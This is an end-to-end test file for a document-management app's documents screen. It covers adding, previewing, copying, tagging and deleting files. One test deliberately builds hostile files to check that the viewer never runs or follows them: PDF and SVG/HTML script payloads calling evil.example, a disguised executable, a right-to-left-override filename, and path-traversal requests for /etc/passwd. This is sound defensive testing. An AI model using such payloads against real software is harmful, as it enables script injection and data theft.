/** Documents from the screen: adding, finding, looking at them, copies, and files that mean harm. */
import {
  mkdirSync,
  openSync,
  ftruncateSync,
  closeSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import type { Page } from '@playwright/test';
import {
  DocumentsScreen,
  fileOf,
  pdfOf,
  redSquare,
  scannedPdf,
  sha256,
  stored,
  storeOf,
} from '../support/documents-screen.ts';
import { expect, test } from '../support/fixtures.ts';

/** Colours that a canvas or an image on the page has, as `r,g,b` with how many pixels. */
const coloursOf = (page: Page, selector: string) =>
  page.evaluate((wanted) => {
    const source = document.querySelector<HTMLCanvasElement | HTMLImageElement>(wanted)!;
    const copy = document.createElement('canvas');
    copy.width = source.width;
    copy.height = source.height;
    const pen = copy.getContext('2d')!;
    pen.drawImage(source, 0, 0, copy.width, copy.height);
    const { data } = pen.getImageData(0, 0, copy.width, copy.height);
    const counts: Record<string, number> = {};
    for (let at = 0; at < data.length; at += 4) {
      const colour = `${data[at]},${data[at + 1]},${data[at + 2]}`;
      counts[colour] = (counts[colour] ?? 0) + 1;
    }
    return counts;
  }, selector);

test('several files dropped at once are added, each failure is named in one toast, and the same content is stored once', async ({
  profile,
  folder,
  launch,
}) => {
  const screen = await new DocumentsScreen(await launch(profile)).open();
  await expect(screen.rows).toHaveCount(10);
  const before = storeOf(profile).contents;
  const brief = fileOf(folder, 'Brief “final” 📎.txt', 'The petitioner submits.');
  const same = fileOf(folder, 'Same brief.txt', 'The petitioner submits.');
  const empty = fileOf(folder, 'Empty.txt', '');
  mkdirSync(join(folder, 'Photos'));
  symlinkSync(brief, join(folder, 'Shortcut.txt'));
  await screen.drop(brief, join(folder, 'Photos'), same, empty, join(folder, 'Shortcut.txt'));
  await screen.expectOneToast('3 of 5 files added');
  const message = screen.page.getByRole('region', { name: 'Messages' });
  await expect(message).toContainText('Photos is a folder, not a file.');
  await expect(message).toContainText('Shortcut.txt is a link to a file, not the file itself.');
  await expect(message).toContainText('The same content was there already: Same brief.txt.');
  await expect(screen.rows).toHaveCount(13);
  await expect(screen.row('Brief “final” 📎.txt')).toContainText('No case');
  await expect(screen.row('Empty.txt')).toContainText('0 bytes');
  expect(storeOf(profile)).toEqual({ contents: before + 2, temporary: 0 });
  expect(readFileSync(stored(profile, sha256('The petitioner submits.')), 'utf8')).toBe(
    'The petitioner submits.',
  );
});

test('files dropped on the page of a case join that case, whichever of its parts is open', async ({
  profile,
  folder,
  launch,
}) => {
  const { app, page } = await launch(profile);
  const screen = new DocumentsScreen({ app, page });
  await page.getByRole('button', { name: 'Cases', exact: true }).click();
  await page.getByRole('grid', { name: 'Cases' }).getByRole('row').nth(1).click();
  const heading = page.getByRole('heading', { level: 1 });
  // Until the case has been read the page has a name of its own.
  await expect(heading).not.toHaveText('Case');
  const title = await heading.innerText();
  const tab = page.getByRole('tab', { name: /^Documents/ });
  await tab.click();
  await expect(page.getByText('Drop files anywhere on this page to add them to this case.')).toBeVisible();
  const before = Number(/\d+/.exec(await tab.innerText())?.[0] ?? 0);
  const brief = fileOf(folder, 'Brief.txt', 'The petitioner submits.');
  const scan = fileOf(folder, 'Scan.png', redSquare());
  await screen.drop(brief, scan);
  await screen.expectOneToast('Added 2 documents.');
  await expect(screen.row('Brief.txt')).toBeVisible();
  await expect(screen.row('Scan.png')).toBeVisible();
  await expect(tab).toHaveText(`Documents (${before + 2})`);
  expect(readFileSync(stored(profile, sha256('The petitioner submits.')), 'utf8')).toBe(
    'The petitioner submits.',
  );
  await screen.closeToasts();

  await page.getByRole('tab', { name: 'Overview' }).click();
  await screen.drop(fileOf(folder, 'Later.txt', 'Came later.'));
  await screen.expectOneToast(/^Added Later\.txt/);
  await expect(tab).toHaveText(`Documents (${before + 3})`);
  await screen.closeToasts();
  await screen.open();
  for (const name of ['Brief.txt', 'Scan.png', 'Later.txt'])
    await expect(screen.row(name)).toContainText(title);
});

test('files are picked in the dialog; closing it adds nothing and says nothing', async ({
  profile,
  folder,
  launch,
}) => {
  const screen = await new DocumentsScreen(await launch(profile)).open();
  await screen.answerOpenDialog();
  await screen.page.getByRole('button', { name: 'Add documents…' }).click();
  await expect(screen.page.getByRole('button', { name: 'Add documents…' })).toBeEnabled();
  await expect(screen.toasts).toHaveCount(0);
  await screen.answerOpenDialog(
    fileOf(folder, 'Notice.pdf', pdfOf('Notice')),
    fileOf(folder, 'Reply.txt', 'Reply'),
  );
  await screen.page.getByRole('button', { name: 'Add documents…' }).click();
  await screen.expectOneToast('Added 2 documents.');
  await expect(screen.row('Notice.pdf')).toContainText('PDF');
  await expect(screen.row('Reply.txt')).toContainText('Text');
});

test('a large file shows how far it is and can be stopped; nothing is left of it', async ({
  profile,
  folder,
  launch,
}) => {
  test.setTimeout(90_000);
  const { app, page } = await launch(profile);
  const screen = await new DocumentsScreen({ app, page }).open();
  const before = storeOf(profile);
  const large = join(folder, 'Recording.mp4');
  const file = openSync(large, 'w');
  ftruncateSync(file, 3_000_000_000);
  closeSync(file);
  await screen.drop(large, fileOf(folder, 'After.txt', 'after'));
  const panel = page.getByRole('region', { name: 'Documents that are being added' });
  await expect(panel.getByRole('progressbar', { name: 'Adding Recording.mp4' })).toBeVisible();
  await panel.getByRole('button', { name: 'Stop' }).click();
  await screen.expectOneToast('Nothing was added. You stopped it: 2 files are left out.');
  await expect(panel).toHaveCount(0);
  expect(storeOf(profile)).toEqual(before);
  await expect(screen.rows).toHaveCount(10);
});

test('a PDF is drawn page by page, its words can be selected, and keys zoom and scroll it', async ({
  profile,
  folder,
  launch,
}) => {
  const { app, page } = await launch(profile);
  const screen = await new DocumentsScreen({ app, page }).open();
  await screen.drop(fileOf(folder, 'Judgment.pdf', pdfOf('Held', { pages: 30 })));
  await screen.expectOneToast(/^Added Judgment\.pdf/);
  await screen.view('Judgment.pdf');
  const room = page.getByRole('region', { name: 'Preview of Judgment.pdf' });
  await expect(room.locator('canvas[data-drawn]').first()).toBeAttached();
  const colours = await coloursOf(page, '[data-page="1"] canvas');
  expect(colours['255,255,255']).toBeGreaterThan(10_000);
  expect(colours['0,0,0']).toBeGreaterThan(100);
  await expect(room.getByText('Held 1', { exact: true })).toBeAttached();
  await expect(page.getByRole('textbox', { name: 'Page' })).toHaveValue('1');

  await page.keyboard.press('PageDown');
  await page.keyboard.press('PageDown');
  await expect(page.getByRole('textbox', { name: 'Page' })).not.toHaveValue('1');
  await page.getByRole('textbox', { name: 'Page' }).fill('28');
  await page.getByRole('textbox', { name: 'Page' }).press('Enter');
  await expect(room.getByText('Held 28', { exact: true })).toBeAttached();
  // Pages that are out of sight hold no picture.
  await expect(page.locator('[data-page="1"] canvas')).toHaveCount(0);
  await page.getByRole('button', { name: 'Page before' }).click();
  await expect(page.getByRole('textbox', { name: 'Page' })).toHaveValue('27');

  const width = async () => (await page.locator('[data-page="27"]').boundingBox())!.width;
  const fitted = await width();
  await room.focus();
  await page.keyboard.press('+');
  await expect.poll(width).toBeGreaterThan(fitted);
  await page.getByRole('button', { name: 'Fit width' }).click();
  await expect.poll(width).toBeCloseTo(fitted, 0);
  await page.keyboard.press('-');
  await expect.poll(width).toBeLessThan(fitted);
  await page.keyboard.press('Escape');
  await expect(page.getByRole('heading', { name: 'Documents', level: 1 })).toBeVisible();
});

test('a scan in JPEG 2000 is decoded although the page may not compile WebAssembly', async ({
  profile,
  folder,
  launch,
}) => {
  const { app, page } = await launch(profile);
  const screen = await new DocumentsScreen({ app, page }).open();
  await screen.drop(fileOf(folder, 'Scan.pdf', scannedPdf()));
  await screen.expectOneToast(/^Added Scan\.pdf/);
  await screen.view('Scan.pdf');
  await expect(page.locator('[data-page="1"] canvas[data-drawn]')).toBeAttached();
  const colours = await coloursOf(page, '[data-page="1"] canvas');
  const [most] = Object.entries(colours).toSorted(([, one], [, other]) => other - one);
  expect(most![0]).toMatch(/^25[345],[012],[012]$/);
});

test('images and texts are shown, also texts of older programs', async ({ profile, folder, launch }) => {
  const { app, page } = await launch(profile);
  const screen = await new DocumentsScreen({ app, page }).open();
  await screen.drop(
    fileOf(folder, 'Seal.png', redSquare(2000)),
    fileOf(folder, 'Letter.txt', Buffer.from('Fee: \x80 200 for Ren\xe9e', 'latin1')),
    fileOf(folder, 'Long.txt', `first line\n${'x'.repeat(1_200_000)}\nlast line`),
  );
  await screen.expectOneToast('Added 3 documents.');
  await screen.view('Seal.png');
  const picture = page.getByRole('img', { name: 'Seal.png' });
  await expect(picture).toHaveAttribute('data-loaded', 'true');
  expect(Object.keys(await coloursOf(page, 'img[alt="Seal.png"]'))).toEqual(['255,0,0']);
  const room = (await page.getByRole('region', { name: 'Preview of Seal.png' }).boundingBox())!;
  expect((await picture.boundingBox())!.width).toBeLessThan(room.width);

  await page.getByRole('button', { name: 'Back', exact: true }).click();
  await screen.view('Letter.txt');
  await expect(page.getByText('Fee: € 200 for Renée')).toBeVisible();
  await page.getByRole('button', { name: 'Back', exact: true }).click();
  await screen.view('Long.txt');
  await expect(page.getByText(/^Only the first 1 MB of 1\.2 MB are shown\./)).toBeVisible();
  await expect(page.getByText('first line')).toBeVisible();
  await expect(page.getByText('last line')).toHaveCount(0);
});

test('nothing in a document is ever run, followed or taken for what its name says', async ({
  profile,
  folder,
  launch,
}) => {
  const { app, page } = await launch(profile);
  const requests: string[] = [];
  const dialogs: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const script = '<script>window.__pwned = 1; fetch("https://evil.example/")</script>';
  const screen = await new DocumentsScreen({ app, page }).open();
  await screen.drop(
    fileOf(
      folder,
      'Open me.pdf',
      pdfOf('Harmless', {
        catalog:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\);) >> /AA << /WC << /S /URI /URI (https://evil.example/) >> >>',
      }),
    ),
    fileOf(
      folder,
      'Plan.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script><image href="https://evil.example/x.png"/></svg>`,
    ),
    fileOf(folder, 'Page.html', `<!doctype html><img src=x onerror="window.__pwned=1">${script}`),
    fileOf(folder, 'Picture.png', `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"/>`),
    fileOf(folder, 'Invoice.pdf', Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0])),
    fileOf(folder, 'gpj.exe\u202efdp.txt', 'right to left'),
  );
  await screen.expectOneToast('Added 6 documents.');

  await screen.view('Open me.pdf');
  await expect(page.getByText('Harmless 1', { exact: true })).toBeAttached();
  await page.getByRole('button', { name: 'Back', exact: true }).click();
  for (const [name, words] of [
    ['Plan.svg', 'onload="window.__pwned=1"'],
    ['Page.html', 'onerror="window.__pwned=1"'],
    ['Picture.png', 'onload="window.__pwned=1"'],
  ] as const) {
    await screen.view(name);
    await expect(page.getByRole('region', { name: `Preview of ${name}` }).getByText(words)).toBeVisible();
    await page.getByRole('button', { name: 'Back', exact: true }).click();
  }
  await screen.view('Invoice.pdf');
  await expect(page.getByText('Causebook does not know this kind of file', { exact: false })).toBeVisible();
  await page.getByRole('button', { name: 'Back', exact: true }).click();
  await screen.view('gpj.exe\ufffdfdp.txt');

  const invoiceId = await page.evaluate(async () => {
    const bridge = (globalThis as unknown as { app: { invoke(...args: unknown[]): Promise<any> } }).app;
    return (await bridge.invoke('documents:list', { search: 'invoice' })).documents[0].id;
  });
  const answers = await page.evaluate(async (id) => {
    const statusOf = (path: string) => fetch(path).then(({ status }) => status);
    return [
      await statusOf(`./document/${id}`),
      await statusOf('./document/..%2findex.html'),
      await statusOf('./document/%2fetc%2fpasswd'),
      await statusOf('./document/00000000-0000-7000-8000-000000000000'),
    ];
  }, invoiceId);
  expect(answers).toEqual([415, 404, 404, 404]);
  // A document is a part of the page, never a page or a frame itself.
  await page.evaluate((id) => {
    const frame = document.createElement('iframe');
    frame.src = `./document/${id}`;
    document.body.append(frame);
    location.href = `./document/${id}`;
  }, invoiceId);
  await expect(page.getByRole('heading', { name: 'gpj.exe\ufffdfdp.txt', level: 1 })).toBeVisible();
  expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
  expect(dialogs).toEqual([]);
  expect(requests.filter((url) => !url.startsWith('app://bundle/') && !url.startsWith('data:'))).toEqual([]);
});

test('a copy is the same to the last byte, under a name that every system takes', async ({
  profile,
  folder,
  launch,
}) => {
  const { app, page } = await launch(profile);
  const screen = await new DocumentsScreen({ app, page }).open();
  const content = pdfOf('Copy', { pages: 3 });
  await screen.drop(fileOf(folder, 'A: what? "so".pdf', content));
  await screen.expectOneToast(/^Added A: what/);
  await screen.closeToasts();
  await screen.view('A: what? "so".pdf');
  await expect(page.getByText(sha256(content))).toBeVisible();
  const target = join(folder, 'copy.pdf');
  writeFileSync(target, 'was here before');
  const offered = await screen.answerSaveDialog(target);
  await page.getByRole('button', { name: 'Save a copy…' }).click();
  await screen.expectOneToast(/^Saved a copy as copy\.pdf in /);
  expect(await offered()).toBe('A_ what_ _so_.pdf');
  expect(readFileSync(target, 'utf8')).toBe(content);
  await screen.closeToasts();
  // Never among the files of the practice itself.
  await screen.answerSaveDialog(stored(profile, sha256(content)));
  await page.getByRole('button', { name: 'Save a copy…' }).click();
  await screen.expectOneToast(/cannot be saved among the files that Causebook itself keeps/);
});

test('a content that is missing or changed is said plainly, and is neither shown nor copied', async ({
  profile,
  folder,
  launch,
}) => {
  const { app, page } = await launch(profile);
  const screen = await new DocumentsScreen({ app, page }).open();
  await screen.drop(fileOf(folder, 'Lost.txt', 'lost'), fileOf(folder, 'Altered.txt', 'as it was'));
  await screen.expectOneToast('Added 2 documents.');
  await screen.closeToasts();
  rmSync(stored(profile, sha256('lost')));
  writeFileSync(stored(profile, sha256('as it was')), 'as it is!');
  await screen.view('Lost.txt');
  await expect(page.getByText('The file of this document is missing on this computer.')).toBeVisible();
  await expect(page.getByRole('button', { name: 'Bring it back from a backup' })).toBeVisible();
  await screen.answerSaveDialog(join(folder, 'copy.txt'));
  await page.getByRole('button', { name: 'Save a copy…' }).click();
  await screen.expectOneToast('The file of this document is missing from the store of this computer.');
  await screen.closeToasts();
  await page.getByRole('button', { name: 'Back', exact: true }).click();
  await screen.view('Altered.txt');
  await expect(page.getByText('The file of this document is not what was stored.')).toBeVisible();
  await page.getByRole('button', { name: 'Save a copy…' }).click();
  await screen.expectOneToast(/^The file of this document is not what was stored/);
  // The same file dropped again mends it.
  await screen.closeToasts();
  await page.getByRole('button', { name: 'Back', exact: true }).click();
  await screen.drop(join(folder, 'Altered.txt'));
  await screen.expectOneToast(/^Added Altered\.txt/);
  expect(readFileSync(stored(profile, sha256('as it was')), 'utf8')).toBe('as it was');
});

test('documents are tagged, renamed, moved to a case, found, and deleted with their content kept', async ({
  profile,
  folder,
  launch,
}) => {
  const { app, page } = await launch(profile);
  const screen = await new DocumentsScreen({ app, page }).open();
  await screen.drop(fileOf(folder, 'scan0001.txt', 'a deed'));
  await screen.expectOneToast(/^Added scan0001\.txt/);
  await screen.closeToasts();
  await screen.view('scan0001.txt');
  await page.getByRole('combobox', { name: 'Tags' }).fill('luggage');
  await page.getByRole('combobox', { name: 'Tags' }).press('Enter');
  await page.getByRole('button', { name: 'Rename or move…' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('textbox', { name: 'Name' }).fill('Sale deed of 1987.txt');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await screen.expectOneToast('Saved Sale deed of 1987.txt.');
  await screen.closeToasts();
  await expect(page.getByRole('heading', { name: 'Sale deed of 1987.txt', level: 1 })).toBeVisible();
  await page.getByRole('button', { name: 'Back', exact: true }).click();

  await page.getByRole('searchbox', { name: 'Search documents' }).fill('1987 lugg');
  await expect(screen.rows).toHaveCount(1);
  await expect(screen.row('Sale deed of 1987.txt')).toContainText('luggage');
  await page.getByRole('searchbox', { name: 'Search documents' }).fill('"* no such -- words');
  await expect(page.getByText('No document has the words', { exact: false })).toBeVisible();
  await page.getByRole('button', { name: 'Show all documents' }).click();
  await page.getByRole('combobox', { name: 'Tag' }).click();
  await page.getByRole('option', { name: 'luggage' }).click();
  await expect(screen.rows).toHaveCount(1);

  await screen.view('Sale deed of 1987.txt');
  await page.getByRole('button', { name: 'Delete…' }).click();
  await dialog.getByRole('button', { name: 'Delete' }).click();
  await screen.expectOneToast(/^Deleted Sale deed of 1987\.txt\. It can be brought back for 30 days\.$/);
  await expect(screen.rows).toHaveCount(0);
  expect(readFileSync(stored(profile, sha256('a deed')), 'utf8')).toBe('a deed');
});

test('the list and the viewer are free of violations that axe can find, light and dark', async ({
  profile,
  folder,
  launch,
}) => {
  // Ten looks of axe.
  test.setTimeout(90_000);
  const { app, page } = await launch(profile);
  const screen = await new DocumentsScreen({ app, page }).open();
  const check = async (): Promise<void> => {
    const { violations } = await new AxeBuilder({ page }).setLegacyMode().analyze();
    expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html ?? ''}`)).toEqual([]);
  };
  await screen.drop(
    fileOf(folder, 'Order.pdf', pdfOf('Order', { pages: 2 })),
    fileOf(folder, 'Seal.png', redSquare()),
    fileOf(folder, 'Note.txt', 'a note'),
    fileOf(folder, 'Program.bin', Buffer.from([0, 1, 2])),
  );
  await screen.expectOneToast('Added 4 documents.');
  await screen.closeToasts();
  for (const appearance of ['Light', 'Dark']) {
    await page.locator('label').filter({ hasText: appearance }).click();
    await expect(screen.rows).toHaveCount(14);
    await check();
    for (const name of ['Order.pdf', 'Seal.png', 'Note.txt', 'Program.bin']) {
      await screen.view(name);
      if (name === 'Order.pdf') await expect(page.getByText('Order 1', { exact: true })).toBeAttached();
      await check();
      await page.getByRole('button', { name: 'Back', exact: true }).click();
    }
  }
});
